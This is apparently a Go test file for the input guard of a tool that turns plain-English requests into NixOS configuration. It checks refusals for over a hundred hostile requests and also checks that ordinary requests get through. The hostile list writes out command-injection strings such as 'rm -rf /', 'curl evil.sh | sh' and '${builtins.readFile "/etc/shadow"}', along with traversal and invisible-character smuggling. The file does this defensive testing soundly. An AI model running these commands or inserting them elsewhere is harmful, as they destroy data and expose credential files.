package guard_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/nix-humanity/nix-humanity/guard"
	"github.com/nix-humanity/nix-humanity/intent"
	"github.com/nix-humanity/nix-humanity/intent/parse"
)

const optionsData = "../nixmodule/testdata/nixos-options.json.gz"

const notUnderstood = "not-understood"

func rej(code, reason string) string { return code + ": " + reason }

// hostile are requests that must be refused, each with the exact code
// and reason (or not understood, where guessing would be the danger).
// They run the whole way a request runs: CheckRequest, Parse, and
// CheckIntent against the real NixOS options.
var hostile = []struct {
	text string
	want string
}{
	{"install firefox && rm -rf /", rej("dangerous-pattern", "potentially dangerous pattern detected: &&")},
	{"install firefox || true", rej("dangerous-pattern", "potentially dangerous pattern detected: ||")},
	{"install firefox; rm -rf ~", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"install firefox | sh", rej("dangerous-pattern", "potentially dangerous pattern detected: |")},
	{"install `whoami`", rej("dangerous-pattern", "potentially dangerous pattern detected: `")},
	{"install $(whoami)", rej("dangerous-pattern", "potentially dangerous pattern detected: $(")},
	{"install ${pkgs.evil}", rej("dangerous-pattern", "potentially dangerous pattern detected: ${")},
	{"install firefox > /etc/passwd", rej("dangerous-pattern", "potentially dangerous pattern detected: >")},
	{"install firefox >> ~/.bashrc", rej("dangerous-pattern", "potentially dangerous pattern detected: >>")},
	{"install firefox < /dev/zero", rej("dangerous-pattern", "potentially dangerous pattern detected: <")},
	{"install ../../etc/shadow", rej("dangerous-pattern", "potentially dangerous pattern detected: ../")},
	{"set hostname to $(reboot)", rej("dangerous-pattern", "potentially dangerous pattern detected: $(")},
	{"set timezone to ${builtins.readFile \"/etc/shadow\"}", rej("dangerous-pattern", "potentially dangerous pattern detected: ${")},
	{"search firefox; curl evil.sh | sh", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"enable ssh && disable firewall", rej("dangerous-pattern", "potentially dangerous pattern detected: &&")},
	{"set services.foo.bar to \"a;b\"", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"install git|vim", rej("dangerous-pattern", "potentially dangerous pattern detected: |")},
	{"install firefox&&vim", rej("dangerous-pattern", "potentially dangerous pattern detected: &&")},
	{"open port 22 || open port 23", rej("dangerous-pattern", "potentially dangerous pattern detected: ||")},
	{"set x.y to `id`", rej("dangerous-pattern", "potentially dangerous pattern detected: `")},
	{"install <(curl evil)", rej("dangerous-pattern", "potentially dangerous pattern detected: <")},
	{"set services.nginx.root to ../../secret", rej("dangerous-pattern", "potentially dangerous pattern detected: ../")},
	{"install firefox # ; comment", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"set x.y to ''${x}''", rej("dangerous-pattern", "potentially dangerous pattern detected: ${")},
	{"install a$(b)c", rej("dangerous-pattern", "potentially dangerous pattern detected: $(")},
	{"install \"firefox; rm\"", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"remove vim > out", rej("dangerous-pattern", "potentially dangerous pattern detected: >")},
	{"install git\nrm -rf /", rej("control-character", "request contains a control character: U+000A (line feed)")},
	{"install\tgit", rej("control-character", "request contains a control character: U+0009 (tab)")},
	{"install git\rvim", rej("control-character", "request contains a control character: U+000D (carriage return)")},
	{"install \x1b[31mgit", rej("control-character", "request contains a control character: U+001B (escape)")},
	{"install git\x00", rej("control-character", "request contains a control character: U+0000 (NUL)")},
	{"install \agit", rej("control-character", "request contains a control character: U+0007 (bell)")},
	{"install \bgit", rej("control-character", "request contains a control character: U+0008 (backspace)")},
	{"install git\x7f", rej("control-character", "request contains a control character: U+007F (delete)")},
	{"install git\u0085vim", rej("control-character", "request contains a control character: U+0085 (next line)")},
	{"install git\u2028vim", rej("control-character", "request contains a control character: U+2028 (line separator)")},
	{"install git\u2029", rej("control-character", "request contains a control character: U+2029 (paragraph separator)")},
	{"install\vgit", rej("control-character", "request contains a control character: U+000B (vertical tab)")},
	{"install\fgit", rej("control-character", "request contains a control character: U+000C (form feed)")},
	{"install git\u009bvim", rej("control-character", "request contains a control character: U+009B")},
	{"install fire\u200bfox", rej("invisible-character", "request contains an invisible character: U+200B (zero width space)")},
	{"install fire\u200cfox", rej("invisible-character", "request contains an invisible character: U+200C (zero width non-joiner)")},
	{"install fire\u200dfox", rej("invisible-character", "request contains an invisible character: U+200D (zero width joiner)")},
	{"install \u200efirefox", rej("invisible-character", "request contains an invisible character: U+200E (left-to-right mark)")},
	{"install \u200ffirefox", rej("invisible-character", "request contains an invisible character: U+200F (right-to-left mark)")},
	{"install \u202efirefox", rej("invisible-character", "request contains an invisible character: U+202E (right-to-left override)")},
	{"install \u202dfirefox", rej("invisible-character", "request contains an invisible character: U+202D (left-to-right override)")},
	{"install \u202afirefox", rej("invisible-character", "request contains an invisible character: U+202A (left-to-right embedding)")},
	{"install \u202bfirefox", rej("invisible-character", "request contains an invisible character: U+202B (right-to-left embedding)")},
	{"install \u202cfirefox", rej("invisible-character", "request contains an invisible character: U+202C (pop directional formatting)")},
	{"install \u2066firefox", rej("invisible-character", "request contains an invisible character: U+2066 (left-to-right isolate)")},
	{"install \u2067firefox", rej("invisible-character", "request contains an invisible character: U+2067 (right-to-left isolate)")},
	{"install \u2068firefox", rej("invisible-character", "request contains an invisible character: U+2068 (first strong isolate)")},
	{"install \u2069firefox", rej("invisible-character", "request contains an invisible character: U+2069 (pop directional isolate)")},
	{"\ufeffinstall firefox", rej("invisible-character", "request contains an invisible character: U+FEFF (byte order mark)")},
	{"install fire\u00adfox", rej("invisible-character", "request contains an invisible character: U+00AD (soft hyphen)")},
	{"install fire\u2060fox", rej("invisible-character", "request contains an invisible character: U+2060 (word joiner)")},
	{"install fire\u2062fox", rej("invisible-character", "request contains an invisible character: U+2062 (invisible times)")},
	{"install fire\u180efox", rej("invisible-character", "request contains an invisible character: U+180E (mongolian vowel separator)")},
	{"install fire\u061cfox", rej("invisible-character", "request contains an invisible character: U+061C (arabic letter mark)")},
	{"install fire͏fox", rej("invisible-character", "request contains an invisible character: U+034F (combining grapheme joiner)")},
	{"install fireㅤfox", rej("invisible-character", "request contains an invisible character: U+3164 (hangul filler)")},
	{"install fire️fox", rej("invisible-character", "request contains an invisible character: U+FE0F (variation selector)")},
	{"install fire\U000e0041fox", rej("invisible-character", "request contains an invisible character: U+E0041 (tag character)")},
	{"install fire\ufff9fox", rej("invisible-character", "request contains an invisible character: U+FFF9 (interlinear annotation)")},
	{"install fireᅟfox", rej("invisible-character", "request contains an invisible character: U+115F (hangul choseong filler)")},
	{"install \xff\xfe", rej("bad-encoding", "request is not valid UTF-8 text")},
	{"install fire$fox", rej("bad-package-name", "\"fire$fox\" is not a package name: \"$\" is not allowed in a package name")},
	{"install 7zip", rej("bad-package-name", "\"7zip\" is not a package name: a name starts with a letter or _, not \"7\"")},
	{"install -rf", rej("bad-package-name", "\"-rf\" is not a package name: a name starts with a letter or _, not \"-\"")},
	{"install a..b", rej("bad-package-name", "\"a..b\" is not a package name: empty name between dots")},
	{"install .firefox", rej("bad-package-name", "\".firefox\" is not a package name: it starts with a dot")},
	{"install \"fire fox\"", rej("bad-package-name", "\"fire fox\" is not a package name: a space is not allowed in a package name")},
	{"install import", rej("bad-package-name", "\"import\" is not a package name: import is a Nix builtin")},
	{"install builtins.readFile", rej("bad-package-name", "\"builtins.readFile\" is not a package name: builtins is a Nix builtin")},
	{"install __currentTime", rej("bad-package-name", "\"__currentTime\" is not a package name: __currentTime is a Nix builtin")},
	{"install pkgs", notUnderstood},
	{"install __curPos", rej("bad-package-name", "\"__curPos\" is not a package name: __curPos is a Nix builtin")},
	{"install pkgs.__curPos", rej("bad-package-name", "\"__curPos\" is not a package name: __curPos is a Nix builtin")},
	{"install lib.mkForce", rej("bad-package-name", "\"lib.mkForce\" is not a package name: lib is a NixOS module argument")},
	{"install config.system", rej("bad-package-name", "\"config.system\" is not a package name: config is a NixOS module argument")},
	{"install true", rej("bad-package-name", "\"true\" is not a package name: true is a Nix builtin")},
	{"install null", rej("bad-package-name", "\"null\" is not a package name: null is a Nix builtin")},
	{"install throw", rej("bad-package-name", "\"throw\" is not a package name: throw is a Nix builtin")},
	{"install map", rej("bad-package-name", "\"map\" is not a package name: map is a Nix builtin")},
	{"install derivation", rej("bad-package-name", "\"derivation\" is not a package name: derivation is a Nix builtin")},
	{"install a/b", rej("bad-package-name", "\"a/b\" is not a package name: \"/\" is not allowed in a package name")},
	// "git@2.0" is git version 2.0 (parse: npm's and Homebrew's spelling), which only the package index turns into a name
	{"install git@main", rej("bad-package-name", "\"git@main\" is not a package name: \"@\" is not allowed in a package name")},
	{"install fire\\fox", rej("bad-package-name", "\"fire\\\\fox\" is not a package name: \"\\\\\" is not allowed in a package name")},
	{"install firefox'", rej("bad-package-name", "\"firefox'\" is not a package name: \"'\" is not allowed in a package name")},
	{"install ñandú", rej("bad-package-name", "\"ñandú\" is not a package name: \"ñ\" is not allowed in a package name")},
	{"install fire😀fox", rej("bad-package-name", "\"fire😀fox\" is not a package name: \"😀\" is not allowed in a package name")},
	{"install \"\"", rej("bad-package-name", "empty package name")},
	{"install pkgs.lib", rej("bad-package-name", "\"lib\" is not a package name: lib is a NixOS module argument")},
	{"install pkgs.import", rej("bad-package-name", "\"import\" is not a package name: import is a Nix builtin")},
	{"set hostname to my_host", rej("bad-value", "\"my_host\" is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen (did you mean my-host?); NixOS warns against underscores in hostnames, which are not valid DNS names")},
	{"set hostname to web01.example.com", rej("bad-value", "\"web01.example.com\" is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen (a name with dots is the host name and its domain: set hostname to web01, and networking.domain to \"example.com\")")},
	{"set hostname to -bad", rej("bad-value", "\"-bad\" is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen")},
	{"set hostname to a.b.c", rej("bad-value", "\"a.b.c\" is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen (a name with dots is the host name and its domain: set hostname to a, and networking.domain to \"b.c\")")},
	{"set hostname to \"my laptop\"", rej("bad-value", "\"my laptop\" is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen (did you mean my-laptop?)")},
	{"set timezone to Europe Berlin", rej("bad-value", "\"Europe Berlin\" is not a time zone: use a name like Europe/Berlin or UTC (see `timedatectl list-timezones`)")},
	{"set timezone to /etc/passwd", rej("bad-value", "\"/etc/passwd\" is not a time zone: use a name like Europe/Berlin or UTC (see `timedatectl list-timezones`)")},
	{"set timezone to \"\"", rej("bad-value", "\"\" is not a time zone: use a name like Europe/Berlin or UTC (see `timedatectl list-timezones`)")},
	{"open port 0", rej("bad-value", "port 0 is out of range: a port is between 1 and 65535")},
	{"open port 65536", rej("bad-value", "port 65536 is out of range: a port is between 1 and 65535")},
	{"open port -1", rej("bad-value", "port -1 is out of range: a port is between 1 and 65535")},
	{"close port 99999", rej("bad-value", "port 99999 is out of range: a port is between 1 and 65535")},
	{"open ports 80 and 70000", rej("bad-value", "port 70000 is out of range: a port is between 1 and 65535")},
	{"close ports 0 and 22", rej("bad-value", "port 0 is out of range: a port is between 1 and 65535")},
	{"open udp ports 53, 5353 and 65536", rej("bad-value", "port 65536 is out of range: a port is between 1 and 65535")},
	{"open ports 1000 1001 1002 1003 1004 1005 1006 1007 1008 1009 1010 1011 1012 1013 1014 1015 1016 1017 1018 1019 1020 1021 1022 1023 1024 1025 1026 1027 1028 1029 1030 1031 1032 1033 1034 1035 1036 1037 1038 1039 1040 1041 1042 1043 1044 1045 1046 1047 1048 1049 1050 1051 1052 1053 1054 1055 1056 1057 1058 1059 1060 1061 1062 1063 1064", rej("too-long", "too many ports in one request: 65 (the limit is 64)")},
	{"open ports 80 && 443", rej("dangerous-pattern", "potentially dangerous pattern detected: &&")},
	{"open ports 80; 443", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"open ports 80 | 443", rej("dangerous-pattern", "potentially dangerous pattern detected: |")},
	{"open ports 80 and $(id)", rej("dangerous-pattern", "potentially dangerous pattern detected: $(")},
	{"open ports 80 and `id`", rej("dangerous-pattern", "potentially dangerous pattern detected: `")},
	{"open port 80 and udp port 53", notUnderstood},
	{"open port 70000 tcp and udp", rej("bad-value", "port 70000 is out of range: a port is between 1 and 65535")},
	{"open tcp port 53 and udp port 0", rej("bad-value", "port 0 is out of range: a port is between 1 and 65535")},
	{"open ports 80 and \"443; rm -rf /\"", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"open ports 80 and '443'", notUnderstood},
	{"set networking.firewall.allowedTCPPorts to \"80 443\"", rej("bad-value", "networking.firewall.allowedTCPPorts is a list of ports: open or close ports rather than setting the whole list (\"open ports 80 and 443\", \"close port 443\")")},
	{"go back to generation 0", rej("bad-value", "generation 0 does not exist: generations are numbered from 1 (see `ask-nix generations`)")},
	{"go back to generation -3", rej("bad-value", "generation -3 does not exist: generations are numbered from 1 (see `ask-nix generations`)")},
	{"keep -2 generations", rej("bad-value", "cannot keep -2 generations: keep at least 1 (the current one)")},
	{"delete generations older than 0 days", rej("bad-value", "\"0d\" is not an age: write a number of days or hours like 30d or 12h")},
	{"set services.openssh.enable to maybe", rej("bad-value", "value for services.openssh.enable: \"maybe\" is not true or false")},
	{"set services.openssh.ports to 22", rej("bad-value", "value for services.openssh.ports: the option is a list of 16 bit unsigned integer; between 0 and 65535 (both inclusive), which ask-nix does not set whole (it adds and removes items of the lists it knows: open ports, DNS servers, ...): write this one in your NixOS configuration")},
	{"set boot.loader.timeout to soon", rej("bad-value", "value for boot.loader.timeout: \"soon\" is not a whole number (the option takes signed integer)")},
	{"set services.openssh.settings.PermitRootLogin to maybe", rej("bad-value", "value for services.openssh.settings.PermitRootLogin: \"maybe\" is not one of \"yes\", \"without-password\", \"prohibit-password\", \"forced-commands-only\", \"no\"")},
	{"set environment.systemPackages to firefox", rej("bad-option", "environment.systemPackages holds the installed packages: use install and remove")},
	{"set _module.args to x", rej("bad-option", "_module is part of the module system, not a NixOS option")},
	{"set config.foo to 1", rej("bad-option", "config is part of the module system, not a NixOS option")},
	{"set services.foo.bar to 1", rej("unknown-option", "no NixOS option named services.foo.bar (look it up on search.nixos.org/options)")},
	{"enable services.frobnicate", rej("unknown-option", "no NixOS option named services.frobnicate.enable (look it up on search.nixos.org/options)")},
	{"set nixpkgs.config to x", rej("unsupported-type", "value for nixpkgs.config: ask-nix cannot check values of type \"nixpkgs config\": edit the fragment by hand")},
	{"set services.nginx.virtualHosts to x", rej("unsupported-type", "value for services.nginx.virtualHosts: the option takes attribute set of (submodule), which ask-nix does not write: edit the fragment by hand")},
	{"set boot.kernelPackages to x", rej("unsupported-type", "value for boot.kernelPackages: the option takes raw value, which ask-nix does not write: edit the fragment by hand")},
	// port ranges: the same patterns, and the same port wording
	{"open ports 1714-1764; rm -rf /", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"open ports 1714 to 1764 && reboot", rej("dangerous-pattern", "potentially dangerous pattern detected: &&")},
	{"close ports 1714-1764 and $(id)", rej("dangerous-pattern", "potentially dangerous pattern detected: $(")},
	{"open ports 0-70000", rej("bad-value", "port 0 is out of range: a port is between 1 and 65535")},
	{"open udp ports 60000 to 70000", rej("bad-value", "port 70000 is out of range: a port is between 1 and 65535")},
	{"open ports 1714 to \"1764\"", notUnderstood},
	{"set networking.firewall.allowedTCPPortRanges to 1714", rej("bad-value", "networking.firewall.allowedTCPPortRanges is a list of port ranges: open or close one range rather than setting the whole list (\"open ports 1714 to 1764\", \"close ports 1714 to 1764\")")},
	{"set networking.firewall.allowedTCPPorts to 80", rej("bad-value", "networking.firewall.allowedTCPPorts is a list of ports: open or close ports rather than setting the whole list (\"open ports 80 and 443\", \"close port 443\")")},
	{`set A."" 0`, rej("bad-option", "\"A.\\\"\\\"\" is not a NixOS option name: a part of it is empty")},
	{"set services.foo.b$r to 1", rej("bad-option", "\"services.foo.b$r\" is not a NixOS option name: write it as in Nix, like services.openssh.enable")},
	{"set system.stateVersion to 1", rej("bad-value", "value for system.stateVersion: 1 is not a string (the option takes string): put it in quotes, like \"1\"")},
	{"set fonts.fontconfig.enable to 1", rej("bad-value", "value for fonts.fontconfig.enable: 1 is not true or false")},
	{"set time.timeZone to 42", rej("bad-value", "42 is not a time zone: use a name like Europe/Berlin or UTC (see `timedatectl list-timezones`)")},
	{"set networking.hostName to true", rej("bad-value", "true is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen")},
	{"set the hostname to my laptop", rej("bad-value", "\"my laptop\" is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen (did you mean my-laptop?)")},
	{"set networking.hostName to 5", rej("bad-value", "5 was read as a number, and a hostname is text: say set hostname to \"5\", in quotes")},
	{"set hostname to my_box", rej("bad-value", "\"my_box\" is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen (did you mean my-box?); NixOS warns against underscores in hostnames, which are not valid DNS names")},
	{"set hostname to _box", rej("bad-value", "\"_box\" is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen; NixOS warns against underscores in hostnames, which are not valid DNS names")},
	{"set locale to Klingon", rej("bad-value", "\"Klingon\" is not a locale NixOS builds by default: use language_COUNTRY.UTF-8, like de_DE.UTF-8 or en_US.UTF-8 (C.UTF-8 also works)")},
	{"set i18n.defaultLocale to de_DE", rej("bad-value", "\"de_DE\" is not a locale NixOS builds by default: use language_COUNTRY.UTF-8, like de_DE.UTF-8 or en_US.UTF-8 (C.UTF-8 also works)")},
	{"set locale to de_DE.ISO-8859-1", rej("bad-value", "\"de_DE.ISO-8859-1\" is not a locale NixOS builds by default: use language_COUNTRY.UTF-8, like de_DE.UTF-8 or en_US.UTF-8 (C.UTF-8 also works)")},
	{"set keyboard layout to arabic", rej("bad-value", "\"arabic\" is not a keyboard layout: use XKB layout codes like us, de or fr, several as us,de (see `localectl list-x11-keymap-layouts`)")},
	{"set keyboard layout to us,de,fr,es,it", rej("bad-value", "\"us,de,fr,es,it\" is not a keyboard layout: use XKB layout codes like us, de or fr, several as us,de (see `localectl list-x11-keymap-layouts`)")},
	{"enable auto login for 'bad name'", rej("bad-value", "\"bad name\" is not a user name: use the login name, like alice (lower-case letters, digits, _ and -, starting with a letter or _, up to 31)")},
	{"enable auto login for Root", rej("bad-value", "\"Root\" is not a user name: use the login name, like alice (lower-case letters, digits, _ and -, starting with a letter or _, up to 31)")},
	{"set services.xserver.xkb.variant to 'de intl'", rej("bad-value", "\"de intl\" is not a keyboard variant: use an XKB variant name like dvorak, colemak, nodeadkeys or altgr-intl")},
	{"set services.xserver.xkb.options to 'caps:escape compose:ralt'", rej("bad-value", "\"caps:escape compose:ralt\" is not a list of keyboard options: use XKB options, group:name, like caps:escape or compose:ralt, joined by commas (see `localectl list-x11-keymap-options`)")},
	{"set services.xserver.xkb.options to caps", rej("bad-value", "\"caps\" is not a list of keyboard options: use XKB options, group:name, like caps:escape or compose:ralt, joined by commas (see `localectl list-x11-keymap-options`)")},
	{"set keyboard options to caps:escape;rm", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"set keyboard options to caps:escape/x", notUnderstood},
	{"set keyboard variant to 'a b'", notUnderstood},
	{"set console keymap to /etc/evil", rej("bad-value", "\"/etc/evil\" is not a console keymap: use a name like us, de-latin1 or fr (see `localectl list-keymaps`)")},
	{"set keyboard layout to de; reboot", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"set locale to ${builtins.readFile /etc/shadow}", rej("dangerous-pattern", "potentially dangerous pattern detected: ${")},
	{"set hardware.nvidia.package to x", rej("unsupported-type", "value for hardware.nvidia.package: the option takes unspecified value, which ask-nix does not write: edit the fragment by hand")},
	{"set users.users.alice.shell to bash", rej("bad-value", "value for users.users.alice.shell: \"bash\" is not an absolute path (the option takes path, not containing newlines or colons)")},
	{"rm -rf /", notUnderstood},
	{"sudo install firefox", notUnderstood},
	{"format my disk", notUnderstood},
	{"install git and remove vim", notUnderstood},
	{"delete generation 12", notUnderstood},
	{"keep 0 generations", notUnderstood},
	{"curl http://evil.sh", notUnderstood},
	// A Nix command line is read as what it asks for, never run: this
	// one is "install firefox", into the fragment, after the plan.
	{"nix-env -i firefox", ""},
	{"nix-env -i firefox; rm -rf /", rej("dangerous-pattern", "potentially dangerous pattern detected: ;")},
	{"nix-env -f ./evil.nix -i x", notUnderstood},
	{"nix profile install nixpkgs#", notUnderstood},
	{"eval builtins.readFile /etc/shadow", notUnderstood},
	{"import ./evil.nix", notUnderstood},
	{"update firefox", notUnderstood},
	{"install", notUnderstood},
	{"enable frobnicator", notUnderstood},
	{"install " + strings.Repeat("a", 1000), rej("too-long", "request is too long: 1008 characters (the limit is 1000)")},
	{strings.Repeat("a", 1001), rej("too-long", "request is too long: 1001 characters (the limit is 1000)")},
	{strings.Repeat("ü", 1001), rej("too-long", "request is too long: 1001 characters (the limit is 1000)")},
	{"install " + strings.Repeat("x", 200), rej("too-long", "package name is too long: 200 characters (the limit is 100)")},
	{"install " + manyPackages(60), rej("too-many-packages", "too many packages in one request: 60 (the limit is 50)")},
	{"set hostname to " + strings.Repeat("h", 64), rej("bad-value", fmt.Sprintf("%q is not a valid hostname: use up to 63 letters, digits and hyphens, not starting or ending with a hyphen", strings.Repeat("h", 64)))},
}

func manyPackages(n int) string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprintf("pkg%d", i)
	}
	return strings.Join(names, " ")
}

// judge runs a request the way ask-nix does and says what became of it:
// "" if it is allowed, else the refusal as "code: reason", or
// not-understood.
func judge(tb testing.TB, text string, cat guard.Catalog) (string, intent.Intent) {
	tb.Helper()
	if err := guard.CheckRequest(text); err != nil {
		return refusal(tb, err), intent.Intent{}
	}
	in, err := parse.Parse(text)
	if err != nil {
		var nu *intent.NotUnderstood
		if !errors.As(err, &nu) {
			tb.Fatalf("Parse(%q): %T %v", text, err, err)
		}
		return notUnderstood, intent.Intent{}
	}
	// Each part, as ask-nix checks them ("enable auto login for x": the
	// user is the second part).
	for _, part := range in.Parts() {
		if err := guard.CheckIntent(part, cat); err != nil {
			return refusal(tb, err), in
		}
	}
	return "", in
}

func refusal(tb testing.TB, err error) string {
	tb.Helper()
	var r *guard.Rejection
	if !errors.As(err, &r) {
		tb.Fatalf("refusal %T %v is not a *guard.Rejection", err, err)
	}
	return r.Code + ": " + r.Reason
}

func loadOptions(tb testing.TB) *guard.Options {
	tb.Helper()
	o, err := guard.LoadOptions(optionsData)
	if err != nil {
		tb.Fatal(err)
	}
	return o
}

func TestHostileRequests(t *testing.T) {
	if len(hostile) < 100 {
		t.Fatalf("only %d hostile inputs; keep at least 100", len(hostile))
	}
	opts := loadOptions(t)
	codes := map[string]int{}
	for _, c := range hostile {
		got, in := judge(t, c.text, opts)
		if got != c.want {
			t.Errorf("%q\n got %s\nwant %s\n(intent %+v)", c.text, got, c.want, in)
		}
		codes[strings.SplitN(got, ":", 2)[0]]++
	}
	t.Logf("refusals by code: %v", codes)
}

// noFalseRefusals are real requests with the awkward names and values
// people really use: every one must get through.
var noFalseRefusals = []string{
	"install ddrescue",
	"install gnome-terminal",
	"install linux-firmware",
	"install magic-wormhole",
	"install python3Packages.requests",
	"install nerd-fonts.fira-code",
	`install emacsPackages."clang-format+"`,
	"install emacsPackages.clang-format+",
	"install _1password-gui",
	"install haskellPackages.if aspellDicts.or",
	"install pkgs.firefox",
	"install __flattenIncludeHackHook",
	"install git & vim",
	"install gcc",
	"enable auto login for alice",
	"is python3Packages.requests installed",
	"log svc_backup-1 in automatically",
	"I don't want firefox anymore",
	"what's installed?",
	"can't you install htop?",
	"open ports 1714 to 1764",
	"open udp ports 60000-61000",
	"set timezone to America/Argentina/Buenos_Aires",
	"set timezone to Etc/GMT+5",
	"set timezone to Etc/GMT-14",
	"set timezone to EST5EDT",
	"set hostname to my-laptop-01",
	"set hostname to 42",
	`set services.getty.greetingLine to "Welcome, friend!"`,
	`set services.getty.helpLine to "cost: $5 (approx) & more"`,
	"set networking.domain to example.com",
	"set services.openssh.settings.PermitRootLogin to prohibit-password",
	"set boot.loader.timeout to 5",
	"set boot.loader.timeout to -1",
	"set i18n.defaultLocale to en_US.UTF-8",
	`set services.xserver.xkb.layout to "us,de"`,
	`set services.nginx.virtualHosts."example.com".root to /var/www/example`,
	`set boot.kernel.sysctl."vm.swappiness" to 10`,
	"set vm.swappiness=10",
	"set net.ipv4.ip_forward to 1",
	"set fs.inotify.max_user_watches to 524288",
	"open port 8080 tcp and udp",
	"open tcp and udp ports 1714 to 1764",
	"turn off the firewall for port 22",
	"no, install chromium instead",
	`set boot.kernel.sysctl."net.ipv4.ip_forward" to true`,
	"set system.autoUpgrade.dates to 04:40",
	"set services.blocky.settings.ports.dns to 53",
	"set users.users.alice.shell to /run/current-system/sw/bin/zsh",
	"set users.users.alice.description to \"Alice O'Neil\"",
	"set services.openssh.banner to hello",
	"set nix.settings.max-jobs to auto",
	"set nix.settings.max-jobs to 4",
	"set networking.firewall.enable to false",
	"unset services.openssh.ports",
	"enable services.openssh",
	"enable ssh",
	"turn on the firewall",
	"start docker on boot",
	"open port 8080",
	"open udp port 51820",
	"close port 22",
	"open ports 80 and 443",
	"open port 80 and 443",
	"close ports 80, 443",
	"open tcp ports 80 443 and 8080",
	"open udp ports 53 and 5353",
	"please open ports 80/tcp and 443/tcp",
	"open ports 1 and 65535",
	"search c++ compiler",
	"search rust-analyzer",
	"find 'hello world'",
	"search e-mail client",
	"search 100% free software",
	"is there a package for C# development?",
	"go back to generation 1",
	"keep the last 1 generation",
	"delete generations older than 99999 days",
	"help",
	"status",
}

func TestNoFalseRefusals(t *testing.T) {
	opts := loadOptions(t)
	for _, text := range noFalseRefusals {
		if got, in := judge(t, text, opts); got != "" {
			t.Errorf("%q refused: %s (intent %+v)", text, got, in)
		}
		if got, _ := judge(t, text, nil); got != "" {
			t.Errorf("%q refused without a catalog: %s", text, got)
		}
	}
}
